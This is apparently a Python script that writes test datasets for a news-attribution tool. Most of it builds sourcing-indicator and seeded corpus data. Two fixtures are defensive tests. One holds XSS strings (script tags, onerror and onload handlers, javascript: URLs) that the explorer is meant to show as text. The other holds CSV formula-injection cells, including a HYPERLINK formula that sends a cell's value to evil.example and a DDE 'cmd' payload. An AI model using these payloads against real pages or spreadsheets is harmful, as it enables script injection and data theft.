#!/usr/bin/env python3
"""Writes the datasets the indicator, explorer and browser tests load, with every offset computed here (Python
string indices are Unicode scalars, the format's unit) rather than counted by hand:

  indicators.json       three articles by two publishers, built so that every sourcing indicator has a case that
                        counts and one that does not (docs/indicators.md; the expected values are pinned in
                        Tests/AttributedAPITests/IndicatorTests.swift, derived there claim by claim);
  hostile-strings.json  an article whose headline, summary, body, entity names and cues hold markup and script
                        (`<script>`, `"><img src=x onerror=...>`, `</textarea>`, `javascript:` URLs): the explorer
                        must show them as text;
  sourcing.json         60 articles by four publishers over 2024-2026 (dates to the day, the month, the year, as a
                        date-time, or none; English and French) with chains of every depth, mode, factuality and
                        origin kind: what the facets, the date and publisher filters and the sourcing series are
                        tested on (Tests/AttributedAPITests/Facets, Tests/Browser) against counts made from the JSON;
  formula-injection.json  texts beginning with `=`, `+`, `-`, `@`, tab or CR, with commas, quotes and line breaks:
                        a CSV export must neutralise and quote them.

Usage: Tests/Datasets/make_datasets.py   (rewrites the four files beside this script)
"""
import json
import pathlib

HERE = pathlib.Path(__file__).resolve().parent


def entity(id, kind, anonymity, name=None, descriptor=None, reason=None, aliases=(), **document):
    record = {"id": id, "kind": kind, "name": name, "descriptor": descriptor, "aliases": list(aliases),
              "anonymity": anonymity, "anonymityReason": reason, "affiliation": None, "roles": []}
    if kind == "document":
        record.update({"issuer": document.get("issuer"), "recipients": [], "date": None})
    return record


def article(id, publisher, headline, body, summary=()):
    return {"id": id, "headline": headline, "summary": list(summary), "body": body, "publisher": publisher,
            "authors": [], "byline": None, "published": "2026-11-24", "url": None, "language": "en"}


def position(text, words, after=0):
    start = text.index(words, after)
    return start, start + len(words)


def span(record, exact, field="body", index=None):
    text = record["body"] if field == "body" else record["headline"] if field == "headline" else record["summary"][index]
    start, end = position(text, exact)
    result = {"field": field, "start": start, "end": end, "exact": exact,
              "prefix": text[max(0, start - 32):start], "suffix": text[end:end + 32]}
    if field == "summary":
        result["index"] = index
    return result


def link(source, mode="narration", factuality="Uu", cue=None, text=None, attribution="assertion", derivation=None):
    """cue: the attributing words, looked up in `text` (the claim's field)."""
    cue_object = None
    if cue is not None:
        start, end = position(text, cue)
        cue_object = {"text": cue, "start": start, "end": end}
    return {"source": source, "cue": cue_object, "mode": mode, "attributionType": attribution,
            "factuality": factuality, "recipient": None, "derivation": derivation}


def claim(id, record, exact, proposition, chain, field="body", index=None):
    return {"id": id, "article": record["id"], "span": span(record, exact, field, index), "text": exact,
            "about": [], "proposition": proposition, "chain": chain}


def indicators():
    entities = [
        entity("daily", "publication", "named", name="The Daily"),
        entity("weekly", "publication", "named", name="The Weekly"),
        entity("mayor", "person", "named", name="Ana Mayor"),
        entity("ministry", "organization", "named", name="The Ministry"),
        entity("city-hall", "organization", "named", name="City Hall"),
        entity("aide", "person", "anonymous", descriptor="an aide", reason="not authorised to speak publicly"),
        entity("officials", "group", "anonymous", descriptor="officials"),
        entity("insider", "person", "partially_identified", descriptor="a council insider", reason="fears reprisal"),
        entity("clerk", "person", "partially_identified", descriptor="a council clerk"),
        entity("memo", "document", "partially_identified", descriptor="an internal memo", issuer="city-hall"),
        entity("rumour", "unspecified", "unspecified", descriptor="it is said"),
    ]
    a1 = article("a1", "daily", "Budget passes", (
        "The budget passed on Monday. The mayor said the budget passed. An aide suggested cuts will follow. "
        "The aide added that cuts will follow. A council insider said a memo reads that it is said the "
        "treasurer resigned. The Ministry declined to comment on the budget. A council clerk said this paper "
        "reported the vote first."))
    a2 = article("a2", "daily", "Parks reopen", "The mayor said parks reopen. Officials hinted parks reopen soon.")
    b1 = article("b1", "weekly", "What the Daily heard", "The Daily reported that an aide said the vote was close.")
    b2 = article("b2", "weekly", "Notice", "No claims are annotated in this notice.")
    body = a1["body"]
    claims = [
        claim("a1-c1", a1, "The budget passed on Monday", "budget-passed", [link("daily", factuality="CT+")]),
        claim("a1-c2", a1, "the budget passed", "budget-passed", [
            link("daily"),
            link("mayor", "direct_quote", "CT+", "said", body, derivation="quotation")]),
        claim("a1-c3", a1, "cuts will follow", "cuts-follow", [
            link("daily"),
            link("aide", "indirect_speech", "PR+", "suggested", body, derivation="paraphrase")]),
        claim("a1-c4", a1, "that cuts will follow", "cuts-follow", [
            link("daily"),
            link("aide", "indirect_speech", "CT+", "added", body, derivation="paraphrase")]),
        claim("a1-c5", a1, "the treasurer resigned", "treasurer-resigned", [
            link("daily"),
            link("insider", "indirect_speech", "CT+", "said a memo", body, derivation="paraphrase"),
            link("memo", "document_citation", "CT-", "reads", body, derivation="quotation"),
            link("rumour", "impersonal_report", "CT+", "it is said", body, attribution="belief", derivation="paraphrase")]),
        claim("a1-c6", a1, "declined to comment on the budget", "ministry-declined", [
            link("daily"),
            link("ministry", "declined_comment", "CT-", "declined to comment", body, derivation="paraphrase")]),
        claim("a1-c7", a1, "reported the vote first", "daily-first", [
            link("daily"),
            link("clerk", "indirect_speech", "CT+", "A council clerk said", body, derivation="paraphrase"),
            link("daily", "indirect_speech", "CT+", "this paper reported", body, derivation="paraphrase")]),
        claim("a2-c1", a2, "parks reopen", "parks-reopen", [
            link("daily"),
            link("mayor", "direct_quote", "CT+", "said", a2["body"], derivation="quotation")]),
        claim("a2-c2", a2, "parks reopen soon", "parks-reopen", [
            link("daily"),
            link("officials", "indirect_speech", "PS+", "hinted", a2["body"], derivation="paraphrase")]),
        claim("b1-c1", b1, "the vote was close", "vote-close", [
            link("weekly"),
            link("daily", "indirect_speech", "CT+", "reported that", b1["body"], derivation="paraphrase"),
            link("aide", "indirect_speech", "CT+", "an aide said", b1["body"], derivation="paraphrase")]),
    ]
    return {"format": "attributed-dataset/1",
            "notes": "Built by Tests/Datasets/make_datasets.py to exercise every sourcing indicator.",
            "articles": [a1, a2, b1, b2], "entities": entities, "claims": claims}


def hostile_strings():
    script = "<script>alert(1)</script>"
    image = '"><img src=x onerror=alert(2)>'
    textarea = "</textarea><script>alert(3)</script>"
    url = "javascript:alert(4)"
    quote = "' onmouseover='alert(5)' x='"
    svg = "</svg><svg onload=alert(6)>"
    entities = [
        entity("gazette", "publication", "named", name=f"The {script} Gazette", aliases=[image]),
        entity("officials", "group", "anonymous", descriptor=f"{svg} officials {quote}", reason=f"{image} fear"),
        entity("spokesman", "person", "named", name=f"{url} Spokesman", descriptor=textarea, aliases=[url]),
        entity("report", "document", "partially_identified", descriptor=f"a {textarea} report {image}",
               issuer="gazette"),
    ]
    record = article("hostile", "gazette", f"{script} {image} {textarea} {url}", (
        f"Officials {script} that the plan {image} was approved. The spokesman said {url} the budget {textarea} "
        f"was cut {svg}. The report {quote} notes that {quote} taxes rise."), summary=[f"{textarea} {url}"])
    record["url"] = "https://example.org/a?x=%22%3E%3Cscript%3Ealert(7)%3C/script%3E&y=1"
    body = record["body"]
    claims = [
        claim("x1", record, f"the plan {image} was approved", f"{script}-plan", [
            link("gazette"),
            link("officials", "indirect_speech", "CT+", script, body, derivation="paraphrase")]),
        claim("x2", record, f"the budget {textarea} was cut {svg}", "budget", [
            link("gazette"),
            link("spokesman", "direct_quote", "CT+", f"said {url}", body, derivation="quotation")]),
        claim("x3", record, f"{quote} taxes rise", "taxes", [
            link("gazette"),
            link("spokesman", "indirect_speech", "PR+", "said", body, derivation="paraphrase"),
            link("report", "document_citation", "CT+", f"{quote} notes", body, derivation="quotation")]),
        claim("x4", record, f"{script} {image}", "headline", [link("gazette")], field="headline"),
        claim("x5", record, url, "summary", [link("gazette")], field="summary", index=0),
    ]
    claims[4]["text"] = f"{url} {script}"
    return {"format": "attributed-dataset/1",
            "notes": f"Built by Tests/Datasets/make_datasets.py. Hostile strings: {script} {image}",
            "articles": [record], "entities": entities, "claims": claims}


def formula_injection():
    """Cells a spreadsheet would run as formulas (OWASP CSV injection): every text a CSV export writes begins with
    one of `=`, `+`, `-`, `@`, tab or CR somewhere here, and some hold commas, quotes and line breaks (RFC 4180
    quoting)."""
    entities = [
        entity("ledger", "publication", "named", name="=HYPERLINK(\"http://evil.example/?\"&A1,\"Ledger\")",
               aliases=["+Ledger", "@Ledger"]),
        entity("insider", "person", "anonymous", descriptor="-an insider, \"close\" to the board", reason="@fear"),
        entity("clerk", "person", "named", name="@SUM(1+1)*cmd|' /C calc'!A0", descriptor="\tclerk"),
    ]
    record = article("formulas", "ledger", "=1+1 Ledger headline", (
        "The insider said =cmd|' /C calc'!A0 was filed. The clerk wrote +3-2 in the margin, \"as usual\". "
        "A note reads -2+5 @once\nand then a second line."), summary=["@summary, with a comma"])
    record["byline"] = "+byline"
    body = record["body"]
    claims = [
        claim("f1", record, "=cmd|' /C calc'!A0 was filed", "=proposition", [
            link("ledger"),
            link("insider", "indirect_speech", "CT+", "said", body, derivation="paraphrase")]),
        claim("f2", record, "+3-2 in the margin, \"as usual\"", "+proposition", [
            link("ledger"),
            link("clerk", "direct_quote", "CT+", "wrote", body, derivation="quotation")]),
        claim("f3", record, "-2+5 @once\nand then a second line", "-proposition", [link("ledger")]),
    ]
    claims[0]["text"] = "\tTabbed text"
    claims[1]["text"] = "\rCarriage text"
    claims[2]["text"] = "@at text, \"quoted\""
    return {"format": "attributed-dataset/1",
            "notes": "Built by Tests/Datasets/make_datasets.py. Formula injection: cells beginning with = + - @ tab CR.",
            "articles": [record], "entities": entities, "claims": claims}


def sourcing():
    """Pseudo-random but fixed (seeded): every facet value and filter has several cases, some publishers and months
    share sources, and some articles fall outside any date range (undated, or dated only to a year)."""
    import random
    rng = random.Random(29)
    publishers = [("courier", "The Courier"), ("daily", "The Daily"), ("herald", "The Herald"), ("weekly", "The Weekly")]
    entities = [entity(id, "publication", "named", name=name) for id, name in publishers]
    people = [entity(f"person-{n}", "person", "named", name=f"Person {n}") for n in range(8)]
    unnamed = [
        entity("aide", "person", "anonymous", descriptor="an aide", reason="not authorised to speak"),
        entity("officials", "group", "anonymous", descriptor="officials"),
        entity("insider", "person", "partially_identified", descriptor="a council insider"),
        entity("memo", "document", "partially_identified", descriptor="an internal memo", issuer="ministry"),
        entity("rumour", "unspecified", "unspecified", descriptor="it is said"),
    ]
    ministry = entity("ministry", "organization", "named", name="The Ministry")
    entities += people + unnamed + [ministry]
    sources = people + unnamed + [ministry]
    mode_of = {"document": "document_citation", "unspecified": "impersonal_report"}
    factualities = ["CT+", "CT+", "CT+", "PR+", "PS+", "Uu", "CT-", "CTu"]
    articles, claims = [], []
    for a in range(60):
        publisher = publishers[a % 4][0] if a % 7 else publishers[0][0]
        year, month, day = 2024 + rng.randrange(3), 1 + rng.randrange(12), 1 + rng.randrange(28)
        kind = rng.random()
        published = (f"{year}-{month:02d}-{day:02d}" if kind < 0.7 else f"{year}-{month:02d}" if kind < 0.8
                     else f"{year}" if kind < 0.87 else f"{year}-{month:02d}-{day:02d}T09:30:00Z" if kind < 0.94 else None)
        sentences = [f"Sentence {c} of story {a} is reported." for c in range(2 + rng.randrange(6))]
        record = article(f"story-{a:02d}", publisher, f"Story {a}", " ".join(sentences))
        record["published"] = None if a in (11, 38) else published
        record["language"] = "fr" if a % 5 == 3 else "en"
        articles.append(record)
        for c, sentence in enumerate(sentences):
            chain = [link(publisher)]
            for _ in range(rng.choice([0, 1, 1, 1, 2, 2])):
                source = rng.choice([s for s in sources if s["id"] != chain[-1]["source"]])
                mode = mode_of.get(source["kind"]) or rng.choice(["direct_quote", "indirect_speech", "mixed_quote", "declined_comment"])
                chain.append(link(source["id"], mode=mode, factuality=rng.choice(factualities),
                                  attribution=rng.choice(["assertion", "assertion", "belief"]),
                                  derivation=rng.choice(["quotation", "paraphrase"])))
            claims.append(claim(f"s{a:02d}-{c}", record, sentence, f"p{rng.randrange(40)}", chain))
    return {"format": "attributed-dataset/1",
            "notes": "Built by Tests/Datasets/make_datasets.py. Facets, filters and series: four publishers, 2024-2026.",
            "articles": articles, "entities": entities, "claims": claims}


for name, dataset in [("indicators.json", indicators()), ("hostile-strings.json", hostile_strings()),
                      ("sourcing.json", sourcing()), ("formula-injection.json", formula_injection())]:
    (HERE / name).write_text(json.dumps(dataset, ensure_ascii=False, indent=1) + "\n", encoding="utf-8")
    print(f"wrote {HERE / name}")
